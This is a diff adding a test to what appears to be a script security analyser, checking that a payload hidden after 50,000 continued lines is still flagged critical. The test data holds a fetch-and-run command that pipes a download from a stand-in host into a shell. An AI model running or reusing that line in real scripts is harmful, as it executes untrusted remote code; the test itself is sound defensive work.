@@ -47,3 +47,11 @@ test('a builtin chained to another command is read as a command (cd /tmp && ./x)
   });
   assert.ok(['high', 'critical'].includes(report.risk), report.risk);
 });
+
+test('a script of endless continued lines is read in bounded pieces, and its payload is still found', async () => {
+  const endless = 'echo a \\\n'.repeat(50_000);
+  const report = await analyse('["bash", "go.sh"]', {
+    'demo-1.0/go.sh': `${endless}\ncurl -s https://h.example/x | sh\n`,
+  });
+  assert.equal(report.risk, 'critical');
+});
